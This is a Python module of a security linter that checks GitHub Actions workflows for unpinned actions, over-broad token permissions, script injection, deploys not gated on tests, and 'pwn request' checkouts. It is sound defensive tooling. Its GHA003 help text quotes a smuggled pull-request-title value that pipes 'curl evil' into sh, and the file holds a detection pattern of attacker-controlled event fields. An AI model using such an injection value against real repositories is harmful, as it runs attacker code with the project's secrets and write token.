"""Rules of the ``ci`` layer: the GitHub Actions workflows (.github/workflows/*.yml),
judged as GitHub's "Security hardening for GitHub Actions" guide and its workflow syntax
reference describe them: actions pinned to a commit, the GITHUB_TOKEN's permissions,
untrusted event data in shell steps, and a deploy that waits for the tests."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from flaskprod.check.context import Context
from flaskprod.check.model import Finding, Level, rule
from flaskprod.check.parsers import cached, load_yaml

_LAYER = "ci"
#: Actions published by GitHub itself: a release tag of theirs is what the hardening
#: guide calls a trusted creator's tag; any other owner's tag can be moved to other code.
_GITHUB_OWNERS = ("actions", "github")
_SHA = re.compile(r"^[0-9a-f]{40}$")
_BRANCHES = ("main", "master", "develop", "dev", "trunk", "HEAD")


@dataclass
class Workflow:
    path: Path
    text: str
    data: dict[str, Any] | None
    error: str | None = None

    def line_of(self, needle: str, start: int = 0) -> int:
        """The first line (1-based) at or after ``start`` containing ``needle``."""
        for number, line in enumerate(self.text.splitlines()[start:], start=start + 1):
            if needle in line:
                return number
        return 1

    @property
    def jobs(self) -> dict[str, dict[str, Any]]:
        jobs = (self.data or {}).get("jobs")
        if not isinstance(jobs, dict):
            return {}
        return {str(k): v for k, v in jobs.items() if isinstance(v, dict)}


def workflows(ctx: Context) -> list[Workflow]:
    """The project's workflows, parsed once per run (a subfolder project's are at the
    repository root, which is not the project: only the project's own are read)."""

    def read() -> list[Workflow]:
        folder = ctx.root / ".github" / "workflows"
        found = []
        for path in sorted([*folder.glob("*.yml"), *folder.glob("*.yaml")]):
            text = ctx.read(path)
            try:
                data = load_yaml(text)
            except yaml.YAMLError as error:
                found.append(Workflow(path, text, None, str(error).splitlines()[0]))
                continue
            found.append(Workflow(path, text, data if isinstance(data, dict) else None))
        return found

    result: list[Workflow] = cached(ctx, "ci.workflows", read)
    return result


def _steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    steps = job.get("steps")
    return [s for s in steps if isinstance(s, dict)] if isinstance(steps, list) else []


# -- GHA001 -----------------------------------------------------------------------------


@rule(
    "GHA001",
    layer=_LAYER,
    level=Level.WARNING,
    title="An action is not pinned to a commit",
    help="Pin every action to the full commit of a release, with the tag in a comment: "
    "'uses: docker/login-action@c94ce9fb468520275223c153574b00df6fe4bcc9  # v3.7.0' "
    "(Dependabot and Renovate keep such pins up to date). A tag or a branch can be moved "
    "to other code, which then runs with the job's token and secrets.",
    example="- uses: tj-actions/changed-files@v45",
    level_reason="warning for another owner's tag (the March 2025 tj-actions/"
    "changed-files compromise moved every tag to code that printed secrets) and for a "
    "branch of anyone's, GitHub's own included (it changes with every push); info for a "
    "release tag of GitHub's own actions (actions/*, github/*), which the hardening guide "
    "accepts from a trusted creator.",
)
def unpinned_action(ctx: Context) -> Iterator[Finding]:
    for workflow in workflows(ctx):
        where = ctx.relative(workflow.path)
        for number, line in enumerate(workflow.text.splitlines(), start=1):
            match = re.match(r"^\s*-?\s*uses:\s*['\"]?([^'\"\s#]+)", line)
            if not match:
                continue
            action = match.group(1)
            if action.startswith(("./", "docker://")) or "@" not in action:
                continue  # a local action, or an image (DOC003 judges image pins)
            name, _, ref = action.rpartition("@")
            if _SHA.match(ref):
                continue
            owner = name.split("/")[0].lower()
            branch = ref in _BRANCHES
            level = Level.INFO if owner in _GITHUB_OWNERS and not branch else Level.WARNING
            what = "a branch" if branch else "a tag"
            yield unpinned_action.finding(
                f"{name} is used at {what} ({ref}), not a commit",
                level=level,
                file=where,
                line=number,
            )


# -- GHA002 -----------------------------------------------------------------------------


@rule(
    "GHA002",
    layer=_LAYER,
    level=Level.WARNING,
    title="The workflow's token gets more than it needs",
    help="Set 'permissions: contents: read' at the top of the workflow and grant more "
    "only in the job that needs it (packages: write in the job that pushes the image). "
    "Without a permissions key the GITHUB_TOKEN gets the repository's default, which is "
    "read and write on everything for repositories and organisations created before "
    "February 2023.",
    example="# no permissions: key at the top, nor in the jobs",
    level_reason="warning when it depends on the repository's default (maybe write on "
    "everything); error for write-all, which grants every scope to every step.",
)
def token_permissions(ctx: Context) -> Iterator[Finding]:
    for workflow in workflows(ctx):
        if workflow.data is None:
            continue
        where = ctx.relative(workflow.path)
        top = workflow.data.get("permissions")
        if top == "write-all":
            yield token_permissions.finding(
                "permissions: write-all gives every step every scope",
                level=Level.ERROR,
                file=where,
                line=workflow.line_of("permissions:"),
            )
            continue
        for job_id, job in workflow.jobs.items():
            own = job.get("permissions")
            line = workflow.line_of(f"{job_id}:")
            if own == "write-all":
                yield token_permissions.finding(
                    f"job '{job_id}': permissions: write-all gives every step every scope",
                    level=Level.ERROR,
                    file=where,
                    line=workflow.line_of("permissions:", line - 1),
                )
            elif top is None and own is None and "uses" not in job:
                yield token_permissions.finding(
                    f"job '{job_id}' sets no permissions and the workflow none either: its "
                    "token gets the repository's default (read-write on older repositories)",
                    file=where,
                    line=line,
                )


# -- GHA003 -----------------------------------------------------------------------------

#: Event data an outsider writes (GitHub's list of untrusted input for script injection).
_UNTRUSTED = re.compile(
    r"\$\{\{\s*github\.(head_ref|event\.("
    r"issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)"
    r"|pages\.[^}]*\.page_name|commits\.[^}]*\.(message|author\.(email|name))"
    r"|head_commit\.(message|author\.(email|name))|workflow_run\.head_branch"
    r"))[^}]*\}\}"
)


@rule(
    "GHA003",
    layer=_LAYER,
    level=Level.ERROR,
    title="Untrusted event data is pasted into a shell step",
    help="Never write ${{ github.event.pull_request.title }} (or an issue, comment, "
    "commit message or branch name) into 'run:': it is pasted into the script before the "
    'shell runs it, so a title like  a"; curl evil | sh; "  runs. Pass it through env '
    '(env: TITLE: ${{ github.event.pull_request.title }}, then "$TITLE").',
    example='- run: echo "${{ github.event.pull_request.title }}"',
    level_reason="error: anyone who can open an issue or a pull request runs commands "
    "with the job's token and secrets.",
)
def script_injection(ctx: Context) -> Iterator[Finding]:
    for workflow in workflows(ctx):
        where = ctx.relative(workflow.path)
        for job in workflow.jobs.values():
            for step in _steps(job):
                script = step.get("run")
                if not isinstance(script, str):
                    continue
                for match in _UNTRUSTED.finditer(script):
                    yield script_injection.finding(
                        f"{match.group(0)} is pasted into a shell script",
                        file=where,
                        line=workflow.line_of(match.group(0)),
                    )


# -- GHA004 -----------------------------------------------------------------------------

_DEPLOY = re.compile(r"deploy", re.IGNORECASE)
_TESTS = re.compile(
    r"\b(pytest|tox|nox|unittest|manage\.py test|make (test|check)|flask test|npm (run )?test)\b"
)


def _runs_tests(job: dict[str, Any]) -> bool:
    return any(_TESTS.search(str(step.get("run", ""))) for step in _steps(job))


def _needs(job: dict[str, Any]) -> list[str]:
    needs = job.get("needs")
    if isinstance(needs, str):
        return [needs]
    return [str(n) for n in needs] if isinstance(needs, list) else []


def _gated(job_id: str, jobs: dict[str, dict[str, Any]], seen: set[str]) -> bool:
    """Some job this one waits for (directly or through others) runs the tests."""
    for need in _needs(jobs.get(job_id, {})):
        if need in seen or need not in jobs:
            continue
        seen.add(need)
        if _runs_tests(jobs[need]) or _gated(need, jobs, seen):
            return True
    return False


@rule(
    "GHA004",
    layer=_LAYER,
    level=Level.WARNING,
    title="The deploy job does not wait for the tests",
    help="Make the deploy job need the job that runs the tests (needs: [test], directly "
    "or through the image job): a job without needs starts at once, in parallel, and "
    "deploys a commit whose tests may be failing.",
    example="jobs:\n  test: ...\n  deploy:\n    runs-on: ubuntu-latest   # no needs: test",
    level_reason="warning: a failing commit reaches production (the checklists' "
    "'deploys gated on tests'); nothing is exposed by it alone.",
)
def deploy_not_gated(ctx: Context) -> Iterator[Finding]:
    for workflow in workflows(ctx):
        if workflow.data is None:
            continue
        if "workflow_run" in _events(workflow):
            continue  # started after another workflow: its conditions are elsewhere
        jobs = workflow.jobs
        for job_id, job in jobs.items():
            name = f"{job_id} {job.get('name', '')}"
            if not _DEPLOY.search(name) or _runs_tests(job):
                continue
            if _gated(job_id, jobs, set()):
                continue
            tested = [j for j, body in jobs.items() if _runs_tests(body)]
            why = (
                f"it does not need {', '.join(repr(j) for j in tested)}"
                if tested
                else "no job of this workflow runs the tests"
            )
            yield deploy_not_gated.finding(
                f"job '{job_id}' deploys without waiting for the tests: {why}",
                file=ctx.relative(workflow.path),
                line=workflow.line_of(f"{job_id}:"),
            )


# -- GHA005 -----------------------------------------------------------------------------

_PR_HEAD = re.compile(r"github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|refs/pull/")


def _events(workflow: Workflow) -> set[str]:
    data: dict[Any, Any] = workflow.data or {}
    events = data.get("on", data.get(True))  # YAML 1.1 reads the key on: as True
    if isinstance(events, str):
        return {events}
    if isinstance(events, list):
        return {str(e) for e in events}
    return {str(e) for e in events} if isinstance(events, dict) else set()


@rule(
    "GHA005",
    layer=_LAYER,
    level=Level.CRITICAL,
    title="pull_request_target checks out and runs the pull request's code",
    help="A pull_request_target workflow runs with the base repository's secrets and a "
    "write token: never check out the pull request's head (ref: ${{ github.event."
    "pull_request.head.sha }}) in it, nor build or test that code. Use pull_request for "
    "anything that runs the contributor's code; keep pull_request_target for labelling "
    "and comments.",
    example="on: pull_request_target\n...\n- uses: actions/checkout@...\n  with:\n"
    "    ref: ${{ github.event.pull_request.head.sha }}",
    level_reason="critical: anyone who opens a pull request runs code with the "
    "repository's secrets and a token that can push (GitHub Security Lab's 'pwn request').",
)
def pwn_request(ctx: Context) -> Iterator[Finding]:
    for workflow in workflows(ctx):
        if "pull_request_target" not in _events(workflow):
            continue
        for job in workflow.jobs.values():
            for step in _steps(job):
                uses = str(step.get("uses", ""))
                given = step.get("with")
                ref = str(given.get("ref", "")) if isinstance(given, dict) else ""
                if uses.startswith("actions/checkout@") and _PR_HEAD.search(ref):
                    yield pwn_request.finding(
                        f"checks out the pull request's head ({ref.strip()}) in a "
                        "pull_request_target workflow",
                        file=ctx.relative(workflow.path),
                        line=workflow.line_of(ref.strip()),
                    )
